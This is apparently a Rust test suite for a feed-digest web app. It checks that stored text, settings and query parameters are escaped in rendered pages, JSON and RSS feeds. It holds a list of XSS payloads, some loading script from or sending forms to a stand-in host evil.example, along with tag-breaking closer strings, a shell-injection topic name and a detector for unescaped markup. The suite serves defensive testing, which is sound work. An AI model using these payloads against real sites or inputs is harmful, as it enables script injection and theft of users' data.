//! Hostile text in every place that text from outside comes from, and what a browser would make of the pages: their
//! elements, not their bytes.

use std::collections::BTreeSet;
use std::fmt::Write as _;

use dom_query::Document;
use serde_json::Value;

use crate::support::feeds::{Post, feed};
use crate::support::radar::{Radar, Ran, repository};
use crate::support::rows;
use crate::support::site::Site;

/// What runs, loads or leads elsewhere where it is taken as markup.
const MARKUP: [&str; 20] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=csrf></form>",
    "<button formaction=//evil.example>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video poster=//evil.example/x.png></video>",
    "<b style=background:url(//evil.example)>x</b>",
];

/// What closes the place that a text stands in.
const CLOSERS: [&str; 15] = [
    "",
    "\">",
    "'>",
    "\"'>",
    "</a>",
    "</title>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "</textarea>",
    "</h2></li>",
    "\" x=\"",
    "&#x22;&gt;",
    "\u{0}\">",
];

fn payloads() -> Vec<String> {
    CLOSERS.iter().flat_map(|closer| MARKUP.iter().map(move |markup| format!("{closer}{markup}"))).collect()
}

/// Puts a payload into every text of a value that people read.
fn poison(value: &mut Value, payload: &str) {
    const TEXTS: [&str; 14] = [
        "title",
        "name",
        "url",
        "excerpt",
        "author",
        "one_liner",
        "bullets",
        "why_it_matters",
        "risks_or_caveats",
        "suggested_followups",
        "reason",
        "entities",
        "discussions",
        "categories",
    ];
    let Some(fields) = value.as_object_mut() else { return };
    for (_, field) in fields.iter_mut().filter(|(name, _)| TEXTS.contains(&name.as_str())) {
        fill(field, payload);
    }
}

fn fill(value: &mut Value, payload: &str) {
    match value {
        Value::String(text) => payload.clone_into(text),
        Value::Array(entries) => entries.iter_mut().for_each(|entry| fill(entry, payload)),
        Value::Object(_) => poison(value, payload),
        _ => {}
    }
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\0', "").replace('\'', "''"))
}

/// Gives each line of the digest a payload of its own, in what feeds said and in what models answered.
fn poison_lines(radar: &Radar, ids: &[String], payloads: &[String]) {
    let mut script = String::new();
    for (id, payload) in ids.iter().zip(payloads) {
        let text = quoted(payload);
        write!(script, "UPDATE digest_items SET title = {text}, url = {text}, reason = {text} WHERE id = '{id}';")
            .unwrap();
        for column in ["detail_json", "members_json", "summary_json", "entities_json", "triage_json"] {
            let stored = rows::query(radar, &format!("SELECT {column} FROM digest_items WHERE id = '{id}'")).concat();
            let Ok(mut value) = serde_json::from_str::<Value>(&stored) else { continue };
            match &mut value {
                Value::Array(members) => members.iter_mut().for_each(|member| poison(member, payload)),
                value => poison(value, payload),
            }
            let json = quoted(&value.to_string().replace("\\u0000", ""));
            write!(script, "UPDATE digest_items SET {column} = {json} WHERE id = '{id}';").unwrap();
        }
    }
    rows::execute(radar, &script);
}

/// Payloads in names of sources, interests, rules and what was saved.
fn poison_settings(radar: &Radar, payload: &str) {
    let text = quoted(payload);
    let rule =
        serde_json::json!([{ "action": "mute", "field": "word", "pattern": payload.replace('\0', "") }]).to_string();
    rows::execute(
        radar,
        &format!(
            "UPDATE sources SET title = {text}, last_error = {text}; UPDATE topics SET interests = {text}, rules_json = {};
             UPDATE feedback_events SET title = {text}, source = {text}, author = {text};",
            quoted(&rule)
        ),
    );
}

/// What a browser would find in the page that is none of ours.
fn strangers(html: &str) -> BTreeSet<String> {
    const TAGS: [&str; 9] = ["iframe", "object", "embed", "base", "style", "math", "video", "img", "frame"];
    let page = Document::from(html);
    let mut found = BTreeSet::new();
    for node in page.select("*").nodes() {
        let tag = node.node_name().unwrap_or_default().to_string();
        if TAGS.contains(&tag.as_str()) {
            found.insert(format!("<{tag}>"));
        }
        for attribute in node.attrs() {
            let (name, value) = (attribute.name.local.to_string(), attribute.value.trim().to_lowercase());
            let leads = ["href", "src", "action", "formaction", "poster", "data", "srcdoc"].contains(&name.as_str());
            let is_link = tag == "a" && name == "href";
            let is_elsewhere = value.starts_with("//") || value.starts_with("http") || value.contains('<');
            let runs = value.starts_with("javascript:") || value.starts_with("data:") || value.starts_with("vbscript:");
            if name.starts_with("on")
                || name == "style"
                || (leads && (runs || (is_elsewhere && !is_link)))
                || (is_link && value.starts_with("//"))
            {
                found.insert(format!("<{tag} {name}={value}>"));
            }
        }
        if tag == "script" && !node.attr("src").is_some_and(|src| src.starts_with("/static/radar.js")) {
            found.insert("<script>".to_owned());
        }
        if tag == "meta" && node.attr("http-equiv").is_some() {
            found.insert("<meta http-equiv>".to_owned());
        }
    }
    found
}

fn encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut encoded, byte| {
        write!(encoded, "%{byte:02X}").unwrap();
        encoded
    })
}

#[test]
fn of_300_payloads_in_every_place_none_is_markup_of_a_page() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 300);
    let mut radar = Radar::at("2026-11-19T07:00:00Z");
    radar.ok(&["--run-once", "--import", &repository("examples/sources.opml"), "--window", "2026-11-16..2026-11-19"]);
    radar.ok(&["feedback", "1", "save"]);
    let ids = rows::query(&radar, "SELECT id FROM digest_items ORDER BY rank");
    let site = Site::start(&mut radar);
    let (mut wrong, mut looked_at) = (String::new(), 0);
    let mut look = |path: &str, html: &str| {
        looked_at += 1;
        for stranger in strangers(html) {
            writeln!(wrong, "{path}: {stranger}").unwrap();
        }
    };
    for (round, payloads) in payloads.chunks(ids.len()).enumerate() {
        poison_lines(&radar, &ids, payloads);
        poison_settings(&radar, &payloads[round % payloads.len()]);
        let today = site.get("/");
        assert_eq!(today.status, 200);
        look("/", &today.body);
        for id in ids.iter().take(payloads.len()) {
            look("/stories", &site.get(&format!("/stories/{id}")).body);
        }
        for path in ["/sources", "/topics", "/topics/default", "/saved", "/archive", "/runs", "/spend"] {
            let page = site.get(path);
            assert_eq!(page.status, 200, "{path}: {}", page.body);
            look(path, &page.body);
        }
        for name in ["stories", "digests", "saved"] {
            let body = site.get(&format!("/feeds/default/{name}.json")).json();
            for item in body["items"].as_array().unwrap() {
                look(name, item["content_html"].as_str().unwrap());
            }
            let rss = site.get(&format!("/feeds/default/{name}.rss")).body;
            feed_rs::parser::parse(rss.as_bytes()).unwrap_or_else(|error| panic!("{name}: {error}: {rss}"));
        }
    }
    for (place, payload) in payloads.iter().enumerate() {
        let queries = [
            "/?topic=",
            "/search?q=",
            "/archive?first=",
            "/sources?said=",
            "/sign-in?next=",
            "/topics/",
            "/stories/",
            "/nothing/",
        ];
        for query in [queries[place % queries.len()], queries[(place / queries.len()) % queries.len()]] {
            let reply = site.get(&format!("{query}{}", encoded(payload)));
            assert!(reply.status < 500, "{query}{payload}: {}", reply.status);
            look(query, &reply.body);
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
    assert!(looked_at > 1_000, "{looked_at} pages");
}

#[test]
fn characters_that_xml_does_not_allow_are_in_no_feed() {
    let mut radar = Radar::at("2026-11-19T07:00:00Z");
    let post = Post::about_nothing_else("one", "2026-11-18T12:00:00Z");
    std::fs::write(radar.folder().join("feed.json"), feed("The Quay", &[post])).unwrap();
    radar.add(&["feed.json"]);
    radar.ok(&["topic", "set", "default", "--at-least", "0"]);
    radar.ok(&["run", "--window", "2026-11-16..2026-11-19"]);
    radar.ok(&["feedback", "1", "save"]);
    // As an earlier version stored it.
    let name = "'Ne\u{fffe}ws \u{b}of the \u{ffff}quay'";
    rows::execute(&radar, &format!("UPDATE feedback_events SET title = {name}, source = {name}, author = {name}"));
    let site = Site::start(&mut radar);
    for form in ["rss", "atom"] {
        let body = site.get(&format!("/feeds/default/saved.{form}")).body;
        assert!(!body.contains(['\u{b}', '\u{fffe}', '\u{ffff}']), "{form}: {body:?}");
        assert!(body.contains("<title>News of the quay</title>"), "{form}: {body}");
        // The text of an entry is markup within XML.
        assert!(body.contains("&gt;News of the quay&lt;"), "{form}: {body}");
        feed_rs::parser::parse(body.as_bytes()).unwrap_or_else(|error| panic!("{form}: {error}: {body}"));
    }
}

#[test]
fn the_command_for_interests_that_doctor_prints_can_be_pasted_whatever_the_topic_is_called() {
    let names = ["default", "plain", "no int", "it's $HOME; `id`", "-x", "日本"];
    let radar = Radar::at("2026-11-19T07:00:00Z");
    radar.ok(&["init"]);
    for name in names.into_iter().skip(1) {
        radar.ok(&["topic", "add", "--", name]);
    }
    let findings = radar.run(&["doctor", "--json"]).json();
    let interests: Vec<&Value> =
        findings.as_array().unwrap().iter().filter(|finding| finding["what"] == "interests").collect();
    assert_eq!(interests.len(), names.len(), "{findings}");
    for finding in interests {
        let (_, command) = finding["text"].as_str().unwrap().split_once("set them with `").unwrap();
        let command = command.strip_suffix('`').unwrap().replace('…', "ferries");
        let pasted = format!("set -e; aha-radar() {{ \"$0\" \"$@\"; }}; {command}");
        let ran = Ran::from(radar.command_after(&pasted, &["topic", "list"]).output().unwrap());
        assert_eq!(ran.code, Some(0), "{command}: {ran:?}");
    }
    let topics = radar.json(&["topic", "list", "--json"]);
    let topics = topics.as_array().unwrap();
    assert_eq!(topics.len(), names.len());
    assert!(topics.iter().all(|topic| topic["interests"] == "ferries"), "{topics:?}");
}

/// The check finds what it is there for.
#[test]
fn every_payload_that_is_not_escaped_is_found() {
    for markup in MARKUP {
        assert!(!strangers(&format!("<html><body><p>{markup}</p></body></html>")).is_empty(), "{markup}");
    }
    let own = "<html><head><link href=\"/static/radar.css\" rel=\"stylesheet\"><script src=\"/static/radar.js?1\" defer></script></head>
               <body><a href=\"https://a.example/\">x</a><form action=\"/topics\"></form></body></html>";
    assert_eq!(strangers(own), BTreeSet::new());
}
